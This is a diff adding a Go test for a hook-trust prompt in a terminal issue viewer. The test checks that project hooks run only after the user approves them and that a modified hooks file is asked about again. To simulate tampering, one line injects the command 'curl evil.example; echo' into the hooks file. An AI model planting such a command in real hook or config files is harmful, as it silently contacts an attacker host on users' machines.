@@ -0,0 +1,87 @@
+package ui
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/Dicklesworthstone/beads_viewer/pkg/hooks"
+	tea "github.com/charmbracelet/bubbletea"
+)
+
+func TestHookTrust_AsksBeforeRunningProjectHooks(t *testing.T) {
+	withBD(t, false)
+	workDir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(workDir, ".bv"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	hooksFile := filepath.Join(workDir, ".bv", "hooks.yaml")
+	hooksYAML := "hooks:\n  issue-action:\n    - name: notify\n      command: echo notified $BV_ISSUE_ID\n"
+	if err := os.WriteFile(hooksFile, []byte(hooksYAML), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	trustPath := filepath.Join(t.TempDir(), hooks.TrustFileName)
+	open := func() Model {
+		t.Helper()
+		trust, err := hooks.LoadTrust(trustPath)
+		if err != nil {
+			t.Fatal(err)
+		}
+		m := commandTestModel(t)
+		m.workDir = workDir
+		m.EnableHookTrust(trust)
+		return m
+	}
+	issue := commandTestModel(t).issueMap["A-1"]
+
+	m := open()
+	if m.CurrentContext() != ContextHookTrust {
+		t.Fatalf("expected the trust prompt, got %s", m.CurrentContext())
+	}
+	if view := m.View(); !strings.Contains(view, "echo notified $BV_ISSUE_ID") || !strings.Contains(view, hooksFile) {
+		t.Fatalf("expected the prompt to show the hooks file and its commands:\n%s", view)
+	}
+	if got := actionLabels(m.actionsFor(*issue)); strings.Contains(got, "Run hook") {
+		t.Fatalf("expected no hooks before they are trusted: %s", got)
+	}
+
+	newM, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("n")})
+	m = newM.(Model)
+	if m.showHookTrust {
+		t.Fatal("expected n to close the prompt")
+	}
+	if got := actionLabels(m.actionsFor(*issue)); strings.Contains(got, "Run hook") {
+		t.Fatalf("expected declined hooks not to run: %s", got)
+	}
+
+	m = open()
+	if !m.showHookTrust {
+		t.Fatal("expected a declined file to be asked about again next time")
+	}
+	newM, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("y")})
+	m = newM.(Model)
+	if m.showHookTrust || m.statusIsError {
+		t.Fatalf("expected y to trust the file, got %q", m.statusMsg)
+	}
+	if got := actionLabels(m.actionsFor(*issue)); !strings.Contains(got, "Run hook notify") {
+		t.Fatalf("expected trusted hooks in the menu: %s", got)
+	}
+	if m = open(); m.showHookTrust {
+		t.Fatal("expected a trusted file not to be asked about again")
+	}
+
+	if err := os.WriteFile(hooksFile, []byte(strings.Replace(hooksYAML, "echo", "curl evil.example; echo", 1)), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if m = open(); !m.showHookTrust {
+		t.Fatal("expected a changed file to be asked about again")
+	}
+
+	m.EnableReadOnly()
+	m.showHookTrust = false
+	m.EnableHookTrust(m.hookTrust)
+	if m.showHookTrust {
+		t.Fatal("expected no prompt in a read-only session, where hooks never run")
+	}
+}